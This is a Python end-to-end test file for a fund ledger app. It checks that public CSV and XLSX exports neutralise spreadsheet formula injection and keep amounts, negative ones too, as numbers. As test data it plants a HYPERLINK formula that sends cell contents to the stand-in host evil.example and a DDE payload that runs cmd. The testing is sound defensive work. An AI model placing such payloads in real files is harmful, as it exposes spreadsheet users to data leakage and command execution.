"""Issue 15 point 6 over real HTTP: texts that a spreadsheet would run as formulas (a purpose
``=HYPERLINK(…)``, a handler ``+1+1``, a memo ``@SUM(…)``) come out of the public board's CSV
and XLSX as text, while amounts, negative ones too, stay numbers (ADR 0063)."""

from __future__ import annotations

import csv
import io
from datetime import date

import httpx
import pytest
from openpyxl import load_workbook

from ledger.application.bootstrap import build_ledger
from ledger.config import Settings
from ledger.exports import formats
from tests.e2e.server import ESTABLISHED_ON, SEED_ACTOR, running_server, seed

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
HANDLER = "+1+1"
MEMO = "@SUM(1+1)*cmd|' /C calc'!A0"
DAY = date(2025, 11, 3)
PERIOD = "2025-11"


def _hostile_fund(database_url: str) -> str:
    """An activity fund whose purpose is a formula, with a donation, an expense paid by the
    handler ``+1+1`` for that purpose, a donation with a formula memo, and the reversal of the
    first donation (a negative amount on the board)."""
    books = seed(database_url)
    ledger = build_ledger(Settings(database_url=database_url))
    try:
        fund = ledger.establish_fund(
            actor=SEED_ACTOR,
            owner_org_id=books.branch,
            kind="activity",
            name_zh="活动经费",
            allowed_purposes=[HYPERLINK],
            custody={"kind": "cash_box"},
            established_on=ESTABLISHED_ON,
        )["fund_id"]
        donation = dict(actor=SEED_ACTOR, donor_kind="resident", donor_name="居民", doc_refs=["收据"])
        first = ledger.record(fund, "receive_donation", occurred_on=DAY, amount_fen=12_000, **donation)
        ledger.record(fund, "receive_donation", occurred_on=DAY, amount_fen=50_000, memo=MEMO, **donation)
        ledger.record(
            fund,
            "pay_expense",
            actor=SEED_ACTOR,
            occurred_on=DAY,
            amount_fen=3_000,
            category=HYPERLINK,
            payee="-2+3",
            handled_by=HANDLER,
            approved_by="支部书记",
            doc_refs=["发票"],
        )
        ledger.reverse_entry(
            fund,
            actor=SEED_ACTOR,
            voucher_no=first["voucher_no"],
            occurred_on=DAY,
            reason="重复录入",
        )
    finally:
        ledger.close()
    return fund


@pytest.fixture(scope="module")
def board(module_database_url):
    fund = _hostile_fund(module_database_url)
    with running_server(module_database_url) as url, httpx.Client(base_url=url, timeout=30) as client:
        yield client, fund


def _fetch(board, fmt: str) -> bytes:
    client, fund = board
    answer = client.get(f"/board/{fund}/{PERIOD}.{fmt}")
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith(formats.MEDIA_TYPES[fmt].split(";")[0])
    return answer.content


def test_public_csv_writes_formula_texts_with_a_leading_quote_when_texts_start_like_formulas(board):
    rows = list(csv.reader(io.StringIO(_fetch(board, "csv").decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]

    assert any(cell.startswith("'" + HYPERLINK) for cell in cells), rows
    assert "'" + HANDLER in cells
    for cell in cells:  # nothing a spreadsheet would run: every risky start is quoted or a number
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        if cell.startswith("-"):
            assert cell.replace("-", "", 1).replace(".", "", 1).isdigit(), cell


def test_public_csv_keeps_negative_amounts_as_plain_numbers_when_an_entry_is_reversed(board):
    rows = list(csv.reader(io.StringIO(_fetch(board, "csv").decode("utf-8-sig"))))

    assert [cell for row in rows for cell in row[4:7] if cell.startswith("-")] == ["-120.00"]


def test_public_xlsx_stores_formula_texts_as_quoted_strings_and_amounts_as_numbers(board):
    sheet = load_workbook(io.BytesIO(_fetch(board, "xlsx"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]

    assert [c for c in cells if c.data_type == "f"] == []
    risky = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
    assert {c.value for c in risky} >= {HANDLER}
    assert any(c.value.startswith(HYPERLINK) for c in risky)
    for cell in risky:
        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    amounts = [c.value for c in cells if c.column_letter in "EFG" and c.row > formats.XLSX_HEADING_ROW]
    assert -120 in amounts and all(isinstance(v, int | float) for v in amounts)
